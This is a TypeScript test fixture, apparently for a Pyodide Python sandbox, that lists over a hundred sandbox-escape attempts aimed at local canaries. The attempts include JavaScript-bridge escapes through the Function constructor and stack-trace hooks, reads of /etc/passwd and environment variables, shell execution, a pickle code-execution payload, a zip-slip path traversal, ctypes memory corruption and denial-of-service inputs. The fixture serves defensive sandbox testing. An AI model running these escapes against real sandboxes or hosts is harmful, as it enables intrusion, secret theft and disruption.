/** Where attacks aim at; none of it may feel anything. */
export interface Canaries {
  /** `127.0.0.1:<port>` of a server that counts connections. */
  host: string
  port: number
  /** A file of the host with a secret in it. */
  file: string
  /** A file that must not come to be. */
  written: string
  pid: number
}

const js = (expression: string) => `from pyodide.ffi import to_js, create_proxy
o = to_js([1])
${expression}`

/** Attempts to get out of the sandbox: each runs as one cell, in the order given. */
export function escapes({ host, port, file, written, pid }: Canaries): string[] {
  const url = `http://${host}`
  return [
    // JavaScript by name
    'import js; js.process.env',
    `import js; js.fetch("${url}")`,
    'from js import process; process.exit(1)',
    `__import__("js").process.kill(${pid})`,
    'import importlib; importlib.import_module("js").globalThis',
    'import pyodide_js; pyodide_js._module',
    'import pyodide_js; pyodide_js._api.public_api',
    'from pyodide_js import FS; FS.filesystems.NODEFS',
    `import pyodide_js; pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {"root": "/"}, "/mnt")`,
    'from pyodide_js._api import _nodeSock',
    'import pyodide_js; pyodide_js.mountNodeFS("/mnt/host", "/")',
    'import pyodide_js; pyodide_js.loadPackage("micropip")',
    'from pyodide.code import run_js; run_js("process.env")',
    'import _pyodide_core; dir(_pyodide_core); _pyodide_core.jsproxy_typedict',
    'import sys; [m for m in sys.modules.values() if "JsProxy" in repr(type(m))][0].process',
    'import sys; sys.meta_path.clear(); import js; js.process',
    'import sys; sys.meta_path[:] = [f for f in sys.meta_path if "Hooks" not in type(f).__name__]; import js',
    'from _pyodide._importhook import jsfinder; jsfinder.jsproxies',
    'from _pyodide._importhook import jsfinder; jsfinder.jsproxies["js"].process.env',
    // JavaScript through objects that Python may make
    js('o.constructor.constructor("return process")().env'),
    js('o.constructor.constructor("return globalThis")().process.exit()'),
    js('o.constructor.from_.constructor("return import(\'node:fs\')")()'),
    js('o.js_filter.constructor("return this")()'),
    js('getattr(o, "__proto__").constructor'),
    js('o.constructor.prototype.constructor.constructor("return 1")()'),
    js('o.constructor.prototype.map = create_proxy(lambda *a: a[0].process)'),
    js('create_proxy(print).constructor.constructor("return process")()'),
    js('to_js({"a": 1}).constructor.constructor("return process")()'),
    js('to_js(b"x").buffer.constructor.constructor("return process")()'),
    js(`import pyodide.webloop as w
f = w.scheduleCallback
f.constructor("return process.mainModule.require('fs')")()`),
    js('import pyodide.webloop as w; w.scheduleCallback.call(None, "process.exit(1)", 0)'),
    js(`import pyodide.webloop as w
w.scheduleCallback.constructor.prototype.call = create_proxy(lambda *a: 1)`),
    js(`E = o.constructor.constructor
E.prototype.toString = create_proxy(lambda *a: open("${file}").read())
str(E)`),
    js(`from pyodide.ffi import JsException
sites = []
try:
    o.constructor.constructor("x")
except JsException as e:
    kind = e.constructor.prototype.constructor
    base = o.constructor.getPrototypeOf if False else kind
    print(kind.name, kind.prepareStackTrace)
    kind.prepareStackTrace = create_proxy(lambda err, all: sites.append(all[0].getThis()))
    kind.__class__
try:
    o.constructor.constructor("y")
except JsException as e:
    print(e.stack)
[site.process.env for site in sites]`),
    js(`from pyodide.ffi import JsException
try:
    import pyodide.webloop as w
    w.scheduleCallback(1)
except JsException as e:
    e.constructor.prepareStackTrace = create_proxy(lambda err, all: [s.getThis().process.env for s in all])
    e.constructor.captureStackTrace(o)
    print(o.stack)
    e.constructor.constructor("return process.env")()`),
    js('import pyodide.ffi; pyodide.ffi.run_sync(o.constructor.constructor("return fetch(1)")())'),
    'import gc; [type(x) for x in gc.get_objects() if "JsProxy" in type(x).__name__][0]',
    `import gc
for x in gc.get_objects():
    if "Js" in type(x).__name__:
        try: print(x.process.env)
        except BaseException: pass`,
    'import _pyodide_core; _pyodide_core.raw_call(print)',
    // the network
    `import urllib.request; urllib.request.urlopen("${url}").read()`,
    `import http.client; c = http.client.HTTPConnection("127.0.0.1", ${port}); c.request("GET", "/")`,
    `import socket; s = socket.socket(); s.connect(("127.0.0.1", ${port})); s.send(b"GET / HTTP/1.0")`,
    `import _socket; s = _socket.socket(); s.connect(("127.0.0.1", ${port})); s.send(b"GET / HTTP/1.0")`,
    `import _socket; s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM); s.sendto(b"x", ("127.0.0.1", ${port}))`,
    `import asyncio; await asyncio.open_connection("127.0.0.1", ${port})`,
    `import socket; socket.socket.connect = socket._socket.socket.connect; socket.socket().connect(("127.0.0.1", ${port}))`,
    'import socket; socket.getaddrinfo("example.com", 80)',
    'import _socket; _socket.getaddrinfo("example.com", 80)',
    `from pyodide.http import pyfetch; await pyfetch("${url}")`,
    `from pyodide.http import open_url; open_url("${url}")`,
    'import micropip; await micropip.install("requests")',
    `import ftplib; ftplib.FTP().connect("127.0.0.1", ${port})`,
    `import webbrowser; webbrowser.open("${url}")`,
    `import xmlrpc.client; xmlrpc.client.ServerProxy("${url}").a()`,
    `import smtplib; smtplib.SMTP("127.0.0.1", ${port})`,
    // files and processes of the host
    `open("${file}").read()`,
    `open("${written}", "w").write("x")`,
    'open("/etc/passwd").read()',
    'open("/proc/self/environ").read()',
    'open("/proc/1/cmdline").read()',
    `import os; os.symlink("${file}", "link"); open("link").read()`,
    'import os; sorted(os.listdir("/"))',
    'import os; dict(os.environ)',
    'import os; os.system("id")',
    'import posix; posix.system("id")',
    `import os; os.popen("cat ${file}").read()`,
    `import subprocess; subprocess.run(["cat", "${file}"])`,
    'import _posixsubprocess',
    'import os; os.fork()',
    'import os; os.execv("/bin/sh", ["sh"])',
    'import os; os.posix_spawn("/bin/sh", ["sh"], {})',
    `import os; os.kill(${pid}, 9)`,
    'import os; os.kill(os.getppid(), 9)',
    'import multiprocessing; multiprocessing.Process(target=print).start()',
    'import threading; threading.Thread(target=print).start()',
    'import os; [os.write(n, b"\\xff" * 64) for n in range(3, 40)]',
    'import os; [os.close(n) for n in range(40)]',
    'import mmap; mmap.mmap(-1, 10)',
    `import sqlite3; sqlite3.connect("${file}").execute("select 1").fetchall()`,
    `import shutil; shutil.copy("${file}", "/mnt/data/stolen")`,
    'import os; os.mount',
    // C functions
    'import ctypes; ctypes.CDLL(None).system(b"id")',
    'import ctypes; ctypes.CDLL(None).emscripten_run_script(b"process.exit(1)")',
    'import ctypes; ctypes.CDLL(None).emscripten_run_script_string(b"JSON.stringify(process.env)")',
    `import ctypes
fd = ctypes.CDLL(None).open(b"${file}", 0)
b = ctypes.create_string_buffer(100)
ctypes.CDLL(None).read(fd, b, 100)
b.value`,
    'import ctypes; ctypes.CDLL(None).getenv.restype = ctypes.c_char_p; ctypes.CDLL(None).getenv(b"GUAGUA_CANARY")',
    `import ctypes; ctypes.CDLL("${file}")`,
    'import ctypes; ctypes.string_at(0, 10_000_000)',
    'import ctypes; ctypes.memset(1024, 0xff, 10_000_000)',
    'import ctypes; ctypes.CFUNCTYPE(None)(0xdeadbeef)()',
    // what the host reads
    'open("/dev/outputs", "w").write(\'{"image": "/dev/outputs", "name": "../../x"}\')',
    `open("/dev/outputs", "w").write('{"image": "${file}", "name": "x.png"}')`,
    'open("/dev/outputs", "w").write("{" * 1_000_000)',
    `import os; os.symlink("${file}", "stolen.png")`,
    'import guagua_runner; guagua_runner._emit({"image": 1, "name": 2})',
    'import guagua_runner; guagua_runner._unavailable = 5; guagua_runner.traceback = None; 1 / 0',
    'import json; json.dumps = json.loads = print; 1',
    'import os; os.open = os.write = None; 1',
    'import signal; signal.raise_signal(signal.SIGTERM)',
    'import os; os.abort()',
    // the host's folders, in stacks of JavaScript
    js(`from pyodide.ffi import JsException
try:
    o.at.call(None)
except JsException as e:
    for kind in (e.constructor, e.constructor.prototype.constructor):
        try: kind.stackTraceLimit = 50
        except BaseException: pass
    print(e.stack)
try:
    o.at.call(None)
except JsException as e:
    print(e.stack)`),
    js('create_proxy(lambda: o.at.call(None)).callKwargs.constructor.stackTraceLimit'),
    js(`sites = []
take = create_proxy(lambda this, *a: sites.append(this), capture_this=True)
o.constructor.prototype.at = take
o.constructor.prototype.toString = take
str(o), o.at(0)
[getattr(s, n, None) for s in sites for n in ("process", "env", "FS", "require", "mainModule")]`),
    js(`x = to_js({"a": 1})
get = to_js({"get": create_proxy(lambda *a: print(a))}, dict_converter=x.constructor.fromEntries)
x.constructor.defineProperty(x.constructor.prototype, "env", get)`),
    js('o.map(create_proxy(lambda *a: a[2].constructor.constructor.prototype.caller))'),
    js('o.at.bind.call(o.at.call, o.at)()'),
    js(
      'from pyodide._package_loader import loadedPackages as l; l.constructor.constructor("return this")()',
    ),
    js('to_js({"a": 1}, dict_converter=o.constructor.constructor)'),
    // the host's descriptors and devices
    'import os; [os.readlink(f"/proc/self/fd/{n}") for n in range(40) if os.path.lexists(f"/proc/self/fd/{n}")]',
    `import os
for n in range(3, 40):
    try: print(n, os.read(n, 100))
    except OSError: pass`,
    `import os
for name in os.listdir("/dev"):
    try: print(open("/dev/" + name, "rb").read(10))
    except OSError: pass`,
    'import os; os.uname(), os.getpid(), os.getppid(), os.cpu_count(), os.getlogin()',
    'import ctypes; ctypes.CDLL(None).jslib_init(), ctypes.CDLL(None)._Py_emscripten_runtime()',
    'import ctypes; ctypes.CDLL(None).emscripten_asm_const_int(0, 0, 0)',
    // what the runner stands on
    'import builtins; builtins.print = builtins.open = builtins.repr = builtins.isinstance = None',
    'import builtins; builtins.__build_class__ = builtins.__import__ = None',
    'import guagua_runner; guagua_runner.__dict__.clear()',
    'import guagua_runner as g; g.imports_of = lambda source: "[" * 100_000',
    'import nosuchmodule',
    'import sys; sys.settrace(lambda *a: 1 / 0); sys.setprofile(lambda *a: 1 / 0)',
    'import gc; gc.callbacks.append(lambda *a: 1 / 0); gc.collect()',
    'import atexit; atexit.register(lambda: open("/mnt/data/x", "w")); atexit._run_exitfuncs()',
    'import faulthandler; faulthandler.enable(); faulthandler.dump_traceback_later(1)',
    'import signal; signal.signal(signal.SIGINT, signal.SIG_IGN); signal.alarm(1)',
    'import sys; sys.stdout = sys.stderr = sys.__stdout__ = sys.excepthook = None; 1 / 0',
    'import asyncio; asyncio.get_event_loop().stop(); asyncio.get_event_loop().close()',
    `import pickle; pickle.loads(b"cposix\\nsystem\\n(S'id'\\ntR.")`,
    'import os; os.symlink("/", "/mnt/data/root"); os.symlink("/mnt/data", "/mnt/data/loop")',
    `import zipfile
z = zipfile.ZipFile("evil.zip", "w")
z.writestr("../../../../tmp/evil", "x")
z.close()
zipfile.ZipFile("evil.zip").extractall("/")`,
    'print("\\ud800 \\udcff\\x00\\x1b[31m"); "\\ud83d"',
    'import sys; sys.stdout.buffer.write(bytes(range(256)) * 1000)',
    'import json; json.loads("[" * 100_000)',
    `class R:
    def __repr__(self): return "r" * 10_000_000
R()`,
    `class E(BaseException):
    def __str__(self): raise self
raise E()`,
    'raise type("E" * 100_000, (Exception,), {})("m" * 1_000_000)',
    'import sys; sys.modules["__main__"] = 5',
    'import sys; sys.modules.clear()',
  ]
}
